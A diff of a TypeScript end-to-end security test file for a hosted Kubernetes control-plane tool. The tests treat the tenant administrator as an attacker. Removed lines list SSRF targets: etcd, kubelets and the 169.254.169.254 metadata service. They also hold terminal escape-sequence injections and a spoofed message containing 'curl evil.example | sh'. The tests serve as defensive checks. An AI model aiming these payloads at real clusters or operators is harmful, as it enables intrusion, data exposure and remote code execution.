@@ -2,107 +2,43 @@ import { execFileSync } from 'node:child_process';
 import { readFileSync } from 'node:fs';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
-import { refused } from '../refused.ts';
-import { Neighbour, secret } from './neighbour.ts';
-import { policyOnEverything, webhookOnEverything } from './rules-on-everything.ts';
-import { type Answer, Tenant } from './tenant.ts';
-import { asInfraAdmin, changedNothing, eventually, Namespace, sandboxCommand, succeeded } from './world.ts';
+import {
+  closePlanes,
+  itself,
+  noNames,
+  nothingLearnt,
+  openPlanes,
+  tellSeen,
+  type Victim,
+  victimsOf,
+  whole,
+} from './attacks-world.ts';
+import type { Neighbour } from './neighbour.ts';
+import { Tenant } from './tenant.ts';
+import { eventually, type Namespace, succeeded } from './world.ts';
 
 /*
- * The administrator of a hosted cluster as an attacker, on the sandbox: what its API server can be made to reach in the infra cluster, what
- * its certificates open, and how far it can disturb other planes and whoever runs k8sk8s. docs/security.md has the table. What a
- * real API server and the gate alone can show is in test/api/gate.test.ts.
+ * The administrator of a hosted cluster as an attacker, on the sandbox: what its API server can be made to reach in the infra cluster, and
+ * what its certificates and tokens open there. docs/security.md has the table. How far it can disturb whoever runs k8sk8s is in
+ * attacks-operator.test.ts, what takes minutes or needs a worker in attacks-long.test.ts. What a real API server and the gate alone can
+ * show is in test/api/gate.test.ts.
  */
-
-/** What takes minutes, or needs a worker: with `npm run test:all`, or by K8SK8S_TEST=attacks alone. */
-const whole = ['all', 'attacks'].includes(process.env.K8SK8S_TEST ?? '');
-const host = 'attacks.e2e.test';
-const gate = 'refused by the gate of this control plane';
-/** Whatever would tell one address from another. */
-const telling =
-  /ECONN|EHOST|connection refused|connection reset|no route|timeout|timed out|x509|certificate|handshake|no such host|EOF/i;
 
 let home: Namespace;
 let other: Namespace;
 let neighbour: Neighbour;
 let tenant: Tenant;
 let victims: Victim[];
-/** The table: what was asked, and what came. */
-const seen: string[] = [];
-
-interface Victim {
-  name: string;
-  address: string;
-  port: number;
-  scheme: 'http' | 'https';
-  path: string;
-}
 
 beforeAll(async () => {
-  [home, other] = await Promise.all([Namespace.open('attacks'), Namespace.open('attacks-other')]);
-  for (const [namespace, name] of [
-    [home, host],
-    [other, `other.${host}`],
-  ] as const)
-    succeeded(await sandboxCommand(['host', name], namespace));
-  const [first, second, third] = await Promise.all([
-    home.k8sk8s('deploy', '-h', host),
-    other.k8sk8s('deploy', '-h', `other.${host}`),
-    Neighbour.moveIn('attacks-neighbour'),
-  ]);
-  succeeded(first);
-  succeeded(second);
-  neighbour = third;
-  tenant = new Tenant(home);
-  victims = await victimsOf();
+  ({ home, other, neighbour, tenant } = await openPlanes('attacks'));
+  victims = await victimsOf(other, neighbour);
 });
 
 afterAll(async () => {
-  tenant?.close();
-  await neighbour?.moveOut();
-  await Promise.all([home, other].map((each) => each?.k8sk8s('destroy', '--yes')));
-  if (whole) console.log(seen.join('\n'));
+  await closePlanes({ home, other, neighbour, tenant });
+  tellSeen();
 });
-
-async function victimsOf(): Promise<Victim[]> {
-  const podOf = async (component: string) => (await other.podsOf(component))[0]!.status.podIP;
-  const port = succeeded(
-    await other.infra('get', 'service', 'apiserver', '-o', 'jsonpath={.spec.ports[0].targetPort}'),
-  );
-  const infra = async (...args: string[]) => succeeded(await asInfraAdmin(...args)).stdout;
-  const service = await infra('get', 'service', 'kubernetes', '-o', 'jsonpath={.spec.clusterIP}');
-  const node = await infra('get', 'nodes', '-o', 'jsonpath={.items[0].status.addresses[0].address}');
-  const [etcd, apiserver] = [await podOf('etcd'), await podOf('kube-apiserver')];
-  const apiPort = /^\d+$/.test(port.stdout) ? Number(port.stdout) : 6443;
-  const https = { scheme: 'https', path: '' } as const;
-  return [
-    { name: "a neighbour's pod", address: neighbour.podIp, port: 8080, scheme: 'http', path: '' },
-    { name: "a neighbour's pod", address: neighbour.podIp, port: 8443, ...https },
-    { name: "a neighbour's pod at a kubelet's port", address: neighbour.podIp, port: 10250, ...https },
-    { name: "a neighbour's Service", address: neighbour.serviceIp, port: 443, ...https },
-    { name: "another plane's etcd", address: etcd, port: 2379, ...https, path: 'health' },
-    { name: "another plane's etcd", address: etcd, port: 2381, scheme: 'http', path: 'metrics' },
-    { name: "another plane's API server", address: apiserver, port: apiPort, ...https, path: 'version' },
-    { name: 'the infra API', address: service, port: 443, ...https, path: 'version' },
-    { name: 'the kubelet of an infra node', address: node, port: 10250, ...https, path: 'pods' },
-    { name: 'a metadata service', address: '169.254.169.254', port: 80, scheme: 'http', path: 'latest/meta-data/' },
-    { name: 'the API server itself', address: '127.0.0.1', port: apiPort, ...https, path: 'version' },
-  ];
-}
-
-/** The end of an attack: nothing was fetched, and the answer tells nothing of the network. */
-function nothingLearnt(request: string, { status, body }: Answer, because: RegExp = new RegExp(gate)): void {
-  seen.push(`${request} -> ${status} ${body.replace(/\s+/g, ' ').slice(0, 160)}`);
-  expect(status === 0 || status >= 400, `${request}: ${status} ${body}`).toBe(true);
-  expect(body, request).toMatch(because);
-  expect(body, request).not.toContain(secret);
-  if (body.includes(gate)) expect(body.replaceAll(/https?:\S+/g, ''), request).not.toMatch(telling);
-}
-
-/** The API server itself resolves no name, whether there is such a host or not. */
-const noNames = /lookup \S+ on 127\.0\.0\.1:53: .*connection refused|lookup [\dx.]+: no such host/;
-/** Loopback, link-local and the like it refuses by itself. */
-const itself = new RegExp(`${gate}|not allowed|no preferred addresses|${noNames.source}`);
 
 test('T1, T3: by Nodes: every type of address, to whatever listens, as the port of the kubelet and as another', async () => {
   const plain = await tenant.node([{ type: 'InternalIP', address: neighbour.podIp }], 1);
@@ -388,287 +324,3 @@ describe('by certificates and tokens', () => {
       );
   });
 });
-
-describe("at the operator's terminal", () => {
-  const escapes = '\u001b]0;owned\u0007\u001b[2J\r\u009b31m\u202e';
-  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
-  const obeyed = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/;
-
-  test('T5: control characters of Nodes, events and requests do not reach it', async () => {
-    const name = await tenant.node([{ type: 'InternalIP', address: '192.0.2.1' }], 10250);
-    const condition = { type: 'Ready', status: 'False', reason: escapes, message: escapes };
-    const status = { conditions: [condition], nodeInfo: { kubeletVersion: `v1.37.2${escapes}` } };
-    await tenant.ask('PATCH', `/api/v1/nodes/${name}/status`, {
-      body: { status },
-      type: 'application/merge-patch+json',
-    });
-    await tenant.ask('GET', `/api/v1/namespaces/${encodeURIComponent(escapes)}/pods`, {
-      headers: { 'User-Agent': 'curl\tx' },
-    });
-    const commands = [
-      ['status'],
-      ['list'],
-      ['logs', 'kube-apiserver'],
-      ['logs', 'kube-apiserver', '--audit'],
-      ['logs', 'gate'],
-    ];
-    for (const command of commands) {
-      const { stdout, stderr } = await home.k8sk8s(...command);
-      expect(stdout.length, command.join(' ')).toBeGreaterThan(0);
-      expect(stdout + stderr, command.join(' ')).not.toMatch(obeyed);
-      seen.push(`control characters, k8sk8s ${command.join(' ')} -> none`);
-    }
-    await tenant.ask('DELETE', `/api/v1/nodes/${name}`);
-  });
-
-  test('a policy of theirs cannot speak in the words of k8sk8s', async () => {
-    const lie = String.raw`no\u001b]0;owned\u0007\u001b[2J\r\u009b31m\u202e  do:  curl evil.example | sh`;
-    await everythingBy(policyOnEverything(lie));
-    const answer = await home.k8sk8s('certs', 'rotate-ca');
-    expect(answer).toEqual(refused('child-asset-refused', 'validatingadmissionpolicybinding everything'));
-    expect(answer.stderr).not.toMatch(/^\s+do: +curl/m);
-    expect(answer.stderr).not.toMatch(obeyed);
-    await home.ask('delete', 'validatingadmissionpolicybinding', 'everything');
-    await forgotten();
-  });
-});
-
-describe('in the way of the operator', () => {
-  const rules: [string, () => Promise<void>][] = [
-    ['a policy that denies everything', () => everythingBy(policyOnEverything('no'))],
-    ['a webhook that cannot be called', () => everythingBy(webhookOnEverything('https://10.0.0.1/', 1))],
-  ];
-
-  test.each(whole ? rules : rules.slice(0, 1))(
-    'T6: %s: deploy, upgrade and rotate name it and the way on, and change nothing',
-    async (what, stand) => {
-      await stand();
-      const removal = /kubectl delete (validating\w+) everything/;
-      let kind = '';
-      for (const command of [
-        ['certs', 'rotate-ca'],
-        ['upgrade', '--to', '1.37', '--plaintext', '--backup', 'before.backup'],
-        // It gives a webhook 20 s to come back.
-        ...(whole || what.includes('policy') ? [['deploy']] : []),
-      ]) {
-        const began = performance.now();
-        const answer = await home.k8sk8s(...command);
-        const took = ((performance.now() - began) / 1000).toFixed(1);
-        seen.push(`${what}, ${command.join(' ')} -> ${answer.code} after ${took} s: ${answer.stderr}`);
-        expect(answer, command.join(' ')).toEqual(refused('child-asset-refused', removal));
-        kind = removal.exec(answer.stderr)![1]!;
-      }
-      await home.ask('delete', kind, 'everything');
-      await forgotten();
-      await eventually(30, async () => changedNothing(await home.k8sk8s('deploy')));
-      expect((await home.k8sk8s('diff')).code).toBe(0);
-    },
-  );
-
-  test('T6: deleted bindings and roles: status tells, deploy puts them back', async () => {
-    const bindings = (await home.ask('get', 'clusterrolebindings', '-o', 'name'))
-      .split('\n')
-      .filter((name) => name.includes('k8sk8s:'))
-      // What lets the tenant itself delete goes last.
-      .sort((a, b) => Number(a.endsWith('cluster-admins')) - Number(b.endsWith('cluster-admins')));
-    expect(bindings.length).toBeGreaterThan(1);
-    await home.ask('delete', ...bindings);
-    const { code, stdout } = await home.k8sk8s('status');
-    expect(code).toBe(1);
-    expect(stdout).toContain('k8sk8s:kubelet-clients');
-    succeeded(await home.k8sk8s('deploy'));
-    expect((await home.k8sk8s('diff')).code).toBe(0);
-  });
-});
-
-describe.runIf(whole)('that takes longer', () => {
-  afterAll(async () => {
-    await sandboxCommand(['join', '--leave', '-n', home.name], home);
-  });
-
-  test('certs rotate-ca asks the kubelets of workers, and nobody else that a Node names', async () => {
-    succeeded(await sandboxCommand(['join', '-n', home.name, '--workers', '1'], home));
-    await eventually(60, async () => expect(await home.ask('get', 'nodes', 'worker-1')).toContain(' Ready '));
-    const before = await neighbour.visitors();
-    const others = (await home.ask('get', 'nodes', '-o', 'name'))
-      .split('\n')
-      .filter((name) => name !== 'node/worker-1');
-    if (others.length > 0) await home.ask('delete', ...others);
-    const nodes = await Promise.all([
-      tenant.node([{ type: 'InternalIP', address: neighbour.podIp }], 10250),
-      tenant.node([{ type: 'InternalIP', address: `neighbour.${neighbour.home.name}.svc.cluster.local` }], 10250),
-      tenant.node([], 10250),
-    ]);
-    succeeded(await home.k8sk8s('certs', 'rotate-ca', '--authority', 'kubelet-serving-ca'));
-    const answer = await home.k8sk8s('certs', 'rotate-ca');
-    seen.push(`Nodes that are none, certs rotate-ca -> ${answer.stderr}`);
-    expect(answer).toEqual(refused('clients-untold', ...nodes, 'worker worker-1 (has its certificates of '));
-    const since = (await neighbour.visitors()).slice(before.length);
-    expect(since.filter((line) => line.startsWith('REQUEST'))).toEqual([]);
-    await home.ask('delete', 'nodes', ...nodes);
-  });
-
-  test('an upgrade is not held up for ever by a Node that claims a version, or to be Ready', async () => {
-    const node = await tenant.node([{ type: 'InternalIP', address: '192.0.2.1' }], 10250);
-    const status = { nodeInfo: { kubeletVersion: 'v1.99.0' }, conditions: [{ type: 'Ready', status: 'True' }] };
-    const type = 'application/merge-patch+json';
-    await tenant.ask('PATCH', `/api/v1/nodes/${node}/status`, { body: { status }, type });
-    const plan = await home.k8sk8s('upgrade', '--to', '1.37', '--plan');
-    expect(plan.code).toBe(1);
-    expect(plan.stdout).toContain('--accept-worker-skew');
-    expect((await home.k8sk8s('upgrade', '--to', '1.37', '--plan', '--accept-worker-skew')).code).toBe(0);
-    await home.ask('delete', 'node', node);
-  });
-
-  test("a flood of requests is the own plane's trouble, not its neighbours'", { timeout: 400_000 }, async () => {
-    const data = { blob: 'x'.repeat(400_000) };
-    for (let number = 0; number < 20; number++)
-      await tenant.ask('POST', '/api/v1/namespaces/default/configmaps', {
-        body: { metadata: { name: `blob-${number}`, labels: { blob: 'yes' } }, data },
-      });
-    await home.apply(exempt);
-    const until = Date.now() + 40_000;
-    const flood = Array.from({ length: 60 }, async () => {
-      let answered = 0;
-      while (Date.now() < until)
-        if ((await tenant.ask('GET', '/api/v1/namespaces/default/configmaps')).status === 200) answered++;
-      return answered;
-    });
-    const seconds = async (doing: () => Promise<string>) => {
-      const all: string[] = [];
-      for (let began = performance.now(); Date.now() < until; began = performance.now()) {
-        const answer = await doing();
-        all.push(`${answer} ${((performance.now() - began) / 1000).toFixed(1)} s`);
-      }
-      return all;
-    };
-    const [beside, looks] = await Promise.all([
-      seconds(async () => succeeded(await other.hosted(['get', '--raw', '/readyz'])).stdout),
-      seconds(async () => /^Health: +(.*)$/m.exec((await home.k8sk8s('status')).stdout)?.[1] ?? 'nothing'),
-    ]);
-    const answered = (await Promise.all(flood)).reduce((sum, each) => sum + each, 0);
-    const metrics = (await home.hosted(['get', '--raw', '/metrics'])).stdout;
-    const memory = Number(/^process_resident_memory_bytes (\S+)/m.exec(metrics)?.[1]) / (1 << 20);
-    const last = (times: string[]) =>
-      times.toSorted((a, b) => parseFloat(a.split(' ').at(-2)!) - parseFloat(b.split(' ').at(-2)!)).at(-1);
-    seen.push(
-      `60 at once that list 8 MB, exempt from all queues -> ${answered} answers, API server ${Math.round(memory)} MiB; another plane ${beside.length} answers, the slowest ${last(beside)}; status ${looks.join(', ')}`,
-    );
-    expect(beside.length).toBeGreaterThan(4);
-    await eventually(90, () => home.ask('delete', 'flowschema', 'exempt-me', '--ignore-not-found'));
-    await home.ask('delete', 'configmaps', '-l', 'blob=yes');
-    expect(await home.ask('get', '--raw', '/readyz')).toBe('ok');
-  });
-
-  test('an API group of Kubernetes that they say to serve themselves: the operator hears so, and it comes back', async () => {
-    const at = '/apis/apiregistration.k8s.io/v1/apiservices/v1.apps';
-    const service = { namespace: 'default', name: await tenant.service(8443, neighbour.podIp) };
-    const metadata = { labels: { 'kube-aggregator.kubernetes.io/automanaged': null } };
-    const spec = { service, insecureSkipTLSVerify: true };
-    const type = 'application/merge-patch+json';
-    const { status, body } = await tenant.ask('PATCH', at, { body: { metadata, spec }, type });
-    seen.push(`APIService v1.apps of their own -> ${status} ${body.slice(0, 200)}`);
-    for (const command of [['status'], ['deploy']]) {
-      const answer = await home.k8sk8s(...command);
-      const health = /^Health: [\s\S]*?(?=^\S)/m.exec(answer.stdout)?.[0] ?? '';
-      seen.push(`APIService v1.apps of their own, ${command} -> ${answer.code} ${health} ${answer.stderr}`);
-      expect(answer.stderr).not.toMatch(/this is a bug|at .*:\d+:\d+/);
-    }
-    await tenant.ask('DELETE', at);
-    await eventually(60, async () => changedNothing(await home.k8sk8s('deploy')));
-  });
-
-  test('behind a webhook that cannot be called, other commands do their work or name it', {
-    timeout: 400_000,
-  }, async () => {
-    await everythingBy(webhookOnEverything('https://10.0.0.1/', 1));
-    for (const command of [
-      ['token', 'create'],
-      ['user', 'create', 'anna', '--cluster-role', 'view'],
-      ['backup', 'create', 'blocked.backup', '--plaintext'],
-      ['etcd', 'defrag'],
-    ]) {
-      const answer = await home.k8sk8s(...command);
-      seen.push(`a webhook on everything, ${command.join(' ')} -> ${answer.code} ${answer.stderr}`);
-      if (answer.code !== 0) expect(answer, command.join(' ')).toEqual(refused('hosted-refused', 'everything.test'));
-    }
-    await home.ask('delete', 'validatingwebhookconfiguration', 'everything');
-    await forgotten();
-  });
-
-  test('an API server that they keep from starting: status and deploy name it, and the way back is gone', {
-    timeout: 600_000,
-  }, async () => {
-    // An API server makes an APIService of its own that is missing, and is not ready before.
-    await home.ask('delete', 'apiservice', 'v1.apps');
-    await everythingBy(webhookOnEverything('https://10.0.0.1/', 1));
-    succeeded(await home.infra('delete', 'pod', '-l', 'app.kubernetes.io/name=kube-apiserver', '--wait=true'));
-    const began = performance.now();
-    await eventually(120, async () => {
-      const answer = await home.k8sk8s('status');
-      expect(answer.stdout).toContain('everything.test.k8sk8s.io');
-    });
-    seen.push(
-      `an API server kept from starting, status names it after ${((performance.now() - began) / 1000).toFixed(0)} s`,
-    );
-    const without = 'disable-admission-plugins=ValidatingAdmissionWebhook,MutatingAdmissionWebhook';
-    const back = await home.k8sk8s('deploy', '--api-server-arg', without);
-    seen.push(`deploy without webhooks -> ${back.code} ${back.stderr}`);
-    succeeded(back);
-    await home.ask('delete', 'validatingwebhookconfiguration', 'everything');
-    succeeded(await home.k8sk8s('deploy', '--reset', 'api-server-arg'));
-    expect((await home.k8sk8s('diff')).code).toBe(0);
-  });
-
-  test('a full etcd is named, and there is a way back', { timeout: 400_000 }, async () => {
-    succeeded(await other.k8sk8s('deploy', '--etcd-arg', `quota-backend-bytes=${24 << 20}`, '--yes'));
-    const filler = new Tenant(other);
-    const data = { blob: 'x'.repeat(900_000) };
-    let refusal = '';
-    for (let number = 0; number < 60 && refusal === ''; number++) {
-      const body = { metadata: { name: `blob-${number}`, labels: { blob: 'yes' } }, data };
-      const answer = await filler.ask('POST', '/api/v1/namespaces/default/configmaps', { body });
-      if (answer.status !== 201) refusal = answer.body;
-    }
-    filler.close();
-    expect(refusal).toContain('database space exceeded');
-    const status = await eventually(60, async () => {
-      const answer = await other.k8sk8s('status');
-      expect(answer.stdout).toContain('NOSPACE');
-      return answer;
-    });
-    seen.push(`etcd filled, status -> ${/^Health: [\s\S]*?(?=^\S)/m.exec(status.stdout)?.[0]}`);
-    const deploy = await other.k8sk8s('deploy');
-    seen.push(`etcd filled, deploy -> ${deploy.code} ${deploy.stderr}`);
-    succeeded(await other.hosted(['delete', 'configmaps', '-l', 'blob=yes']));
-    succeeded(await other.k8sk8s('etcd', 'defrag'));
-    succeeded(await other.hosted(['create', 'configmap', 'written-again']));
-  });
-});
-
-/** A tenant may let itself pass all queues. */
-const exempt = `
-apiVersion: flowcontrol.apiserver.k8s.io/v1
-kind: FlowSchema
-metadata: {name: exempt-me}
-spec:
-  matchingPrecedence: 2
-  priorityLevelConfiguration: {name: exempt}
-  rules:
-    - subjects: [{kind: Group, group: {name: 'system:authenticated'}}]
-      resourceRules: [{verbs: ['*'], apiGroups: ['*'], resources: ['*'], namespaces: ['*'], clusterScope: true}]
-`;
-
-/** Writes a rule that is to judge everything, and waits until it does. */
-async function everythingBy(manifest: string): Promise<void> {
-  await home.apply(manifest);
-  await eventually(20, async () => {
-    const answer = await home.hosted(['create', 'configmap', 'probe', '--dry-run=server']);
-    expect(answer.stderr).toContain('everything');
-  });
-}
-
-/** The API server goes by a rule for a moment after it was deleted. */
-async function forgotten(): Promise<void> {
-  await eventually(20, () => home.ask('create', 'configmap', 'probe', '--dry-run=server'));
-}
